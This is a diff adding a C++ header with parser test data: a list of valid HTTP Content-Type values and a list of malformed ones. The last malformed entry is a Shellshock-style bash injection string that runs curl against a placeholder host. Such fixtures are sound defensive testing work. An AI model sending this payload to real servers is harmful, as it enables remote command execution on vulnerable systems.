@@ -0,0 +1,79 @@
+#pragma once
+
+#include <array>
+#include <string_view>
+
+namespace common_good::corpus
+{
+	/// @brief Content-Type values as sent by browsers, servers and API clients, in the casing and spacing seen on the wire.
+	inline constexpr std::array<std::string_view, 48> content_types {
+		"text/html",
+		"text/html; charset=utf-8",
+		"text/html;charset=UTF-8",
+		"text/plain",
+		"text/plain; charset=us-ascii",
+		"text/css",
+		"text/css; charset=utf-8",
+		"text/javascript",
+		"text/csv; charset=utf-8; header=present",
+		"text/xml",
+		"text/event-stream",
+		"text/markdown; charset=UTF-8; variant=GFM",
+		"application/json",
+		"application/json; charset=utf-8",
+		"application/json;charset=UTF-8",
+		"application/javascript",
+		"application/xml",
+		"application/xhtml+xml",
+		"application/atom+xml",
+		"application/rss+xml; charset=utf-8",
+		"application/ld+json",
+		"application/problem+json",
+		"application/vnd.api+json",
+		"application/vnd.github.v3+json",
+		"application/vnd.ms-excel",
+		"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+		"application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+		"application/x-www-form-urlencoded",
+		"application/x-www-form-urlencoded; charset=UTF-8",
+		"application/octet-stream",
+		"application/pdf",
+		"application/zip",
+		"application/gzip",
+		"application/wasm",
+		"application/grpc+proto",
+		"application/cbor",
+		"multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
+		"multipart/form-data; boundary=\"simple boundary\"",
+		"multipart/mixed; boundary=gc0p4Jq0M2Yt08jU534c0p",
+		"multipart/byteranges; boundary=3d6b6a416f9b5",
+		"image/png",
+		"image/jpeg",
+		"image/svg+xml",
+		"image/webp",
+		"audio/mpeg",
+		"video/mp4",
+		"font/woff2",
+		"Application/JSON; Charset=\"utf-8\"",
+	};
+
+	/// @brief Malformed values as sent by scanners and broken clients, each rejected for a different reason.
+	inline constexpr std::array<std::string_view, 16> malformed_content_types {
+		"",
+		"html",
+		"text",
+		"text/",
+		"/html",
+		"text/.html",
+		"text/ht ml",
+		"text/html+",
+		"text/html+-json",
+		"-text/html",
+		"application/vnd..json",
+		"application/json; charset",
+		"application/json; charset=",
+		"application/json; charset=\"utf-8",
+		"text/html; charset=utf-8 x",
+		"() { :; }; /bin/bash -c \"curl http://example.com\"",
+	};
+}